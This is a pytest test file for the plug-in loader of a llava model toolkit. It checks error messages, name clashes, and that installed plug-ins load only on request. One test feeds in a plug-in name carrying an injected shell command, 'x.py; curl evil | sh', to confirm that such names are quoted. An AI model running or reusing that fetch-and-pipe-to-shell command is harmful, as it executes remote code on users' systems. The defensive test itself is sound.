"""Loading of plug-ins: errors are one line and leave nothing, and only a user's words load one."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest

from llava import cli
from llava.errors import ConfigError
from llava.eval import run as eval_run
from llava.model.projector_types import PROJECTOR_TYPES
from llava.utils import plugins

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "plugin.py"
HEAD = "from llava import plugins\n"
pytestmark = pytest.mark.usefixtures("no_plugins")


def run(*words: object) -> None:
    cli.run_command([str(word) for word in words])


BAD = [
    ("x = 1 +\n", r"plug-in bad\.py line 1: SyntaxError"),
    ("\nraise ValueError('no')\n", r"plug-in bad\.py line 2: ValueError: no"),
    ("raise SystemExit(0)\n", r"plug-in bad\.py line 1: SystemExit"),
    ("import not_there\n", r"plug-in bad\.py line 1: ModuleNotFoundError"),
    (HEAD + "plugins.add_projector('linear', None, None)\n", "a projector 'linear' already exists"),
    (HEAD + "plugins.add_projector('mlp9x_gelu', None, None)\n", "a projector 'mlp9x_gelu' already exists"),
    (
        HEAD + "plugins.add_projector('p', print, lambda v, t: {'linear_1.weight': (v, t)})\n",
        "linear_1.weight holds 'linear_1.', which stands for other weights",
    ),
    (HEAD + "plugins.add_projector('p', print, lambda v, t: {'w': [v, t]})\n", "the shape of w is"),
    (
        HEAD + "form = plugins.TransformersForm('a.', 'b.', 'relu')\n"
        "plugins.add_projector('p', print, lambda v, t: {'w': (v, t)}, transformers=form)\n",
        "its form for transformers has the weights a.bias",
    ),
    (
        HEAD + "plugins.add_projector('p', print, lambda v, t: {'block.lora_gate': (v, t)})\n",
        "block.lora_gate holds 'lora_'",
    ),
    (
        HEAD + "plugins.add_metric(plugins.Metric('a, b', len, plugins.MetricFacts(version='1')))\n",
        "a comma separates the names of --metrics",
    ),
    (
        HEAD + "plugins.add_metric(plugins.Metric('a', len, plugins.MetricFacts(version='1', direction='up')))\n",
        "direction is 'up'",
    ),
    (
        HEAD + "plugins.add_template(plugins.ConversationTemplate('qwen3_sq', '', None, stops=()))\n",
        "the name stands for a chat template",
    ),
    (
        HEAD + "form = plugins.Form(system='{}', human=(('Q', False),), gpt=(('{}', True),))\n"
        "plugins.add_template(plugins.ConversationTemplate('own', '', form, stops=()))\n",
        "expected one {} in the frame of questions",
    ),
    (HEAD + "plugins.add_objective('dpo', print)\n", "an objective 'dpo' already exists"),
    (HEAD + "plugins.add_objective('own', lambda x: x)\n", "expected a function of the keywords without"),
    (HEAD + "plugins.add_converter('a b', print)\n", "expected one word"),
    (HEAD + "plugins.add_converter('slake', print)\n", "a command 'data slake' already exists"),
    (
        HEAD + "plugins.add_metric(plugins.Metric('ROUGE-L', len, plugins.MetricFacts(version='1')))\n",
        "a metric 'ROUGE-L' already exists",
    ),
    (HEAD + "plugins.add_task(plugins.EvaluationTask('slake', 'a', 'b'))\n", "a task 'slake' already exists"),
    (HEAD + "plugins.add_task(plugins.EvaluationTask('t', '/a', 'b'))\n", "rows must be a path below"),
    (HEAD + "plugins.add_task(plugins.EvaluationTask('t', 'a', 'b', metrics=('x',)))\n", "unknown metric 'x'"),
    (
        HEAD + "plugins.add_template(plugins.ConversationTemplate('qwen2.5', '', None, stops=()))\n",
        "the name stands for a chat template",
    ),
]


@pytest.mark.parametrize(("code", "message"), BAD)
def test_bad_plugins_are_one_line_and_leave_nothing(tmp_path: Path, code: str, message: str) -> None:
    (tmp_path / "bad.py").write_text(code)
    before = dict(PROJECTOR_TYPES)
    with pytest.raises(ConfigError, match=message) as error:
        plugins.load_plugins([str(tmp_path / "bad.py")])
    assert "\n" not in str(error.value) and str(error.value).startswith("plug-in bad.py")
    assert before == PROJECTOR_TYPES and plugins.loaded_plugins() == {}


def test_a_failed_plugin_can_be_corrected(tmp_path: Path) -> None:
    file = tmp_path / "own.py"
    added = HEAD + "plugins.add_converter('own-rows', print)\n"
    file.write_text(added + "1 / 0\n")
    with pytest.raises(ConfigError, match=r"own\.py line 3: ZeroDivisionError"):
        plugins.load_plugins([str(file)])
    assert "data own-rows" not in cli.COMMANDS
    file.write_text(added)
    plugins.load_plugins([str(file), str(file)])
    assert "data own-rows" in cli.COMMANDS
    other = tmp_path / "other" / "own.py"
    other.parent.mkdir()
    other.write_text("")
    with pytest.raises(ConfigError, match=r"another plug-in own\.py is loaded"):
        plugins.load_plugins([str(other)])


@pytest.mark.parametrize("given", ["nowhere.py", "folder/name", "not-installed", "README.md"])
def test_unknown_plugins(given: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(EXAMPLE.parents[1])
    with pytest.raises(ConfigError, match=f"--plugin {given}: .*expected a Python file"):
        plugins.load_plugins([given])


def test_an_installed_plugin(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    called: list[str] = []
    dist = SimpleNamespace(name="hospital", version="2.0")
    entry = SimpleNamespace(name="ward", value="hospital.llava:add", dist=dist, load=lambda: lambda: called.append("x"))
    monkeypatch.setattr("importlib.metadata.entry_points", lambda group: [entry] if group == "llava.plugins" else [])
    eval_run.main(["--tasks", "list"])
    assert not called  # an installed plug-in is not loaded before a user names it
    eval_run.main(["--tasks", "list", "--plugin", "ward"])
    assert called == ["x"] and plugins.loaded_plugins() == {"ward": "hospital 2.0"}
    with pytest.raises(ConfigError, match=r"offer in llava\.plugins: ward"):
        plugins.load_plugins(["other"])


def test_names_of_a_stranger_are_quoted() -> None:
    text = plugins.missing_text(["x.py; curl evil\n| sh", *(f"{number}.py" for number in range(9))])
    assert "add --plugin 'x.py; curl evil | sh' --plugin 0.py" in text and "8.py" not in text and "\n" not in text


def test_several_plugins_of_a_configuration_file(tmp_path: Path) -> None:
    for name in ("a.py", "b.py"):
        (tmp_path / name).write_text("")
    (tmp_path / "run.yaml").write_text("plugin: [a.py, b.py]\nmodel_name_or_path: nowhere/at/all\n")
    given = ["--plugin", tmp_path / "a.py", tmp_path / "b.py"]
    with pytest.raises(ConfigError, match=r"run\.yaml needs the plug-in b\.py"):
        run("train", tmp_path / "run.yaml", *given[:2])
    for words in (given, [*given[:2], f"--plugin={given[2]}"], ["--plugin", f"{given[1]},{given[2]}"]):
        with pytest.raises(ConfigError, match="--data-path is missing"):
            run("train", tmp_path / "run.yaml", *words)
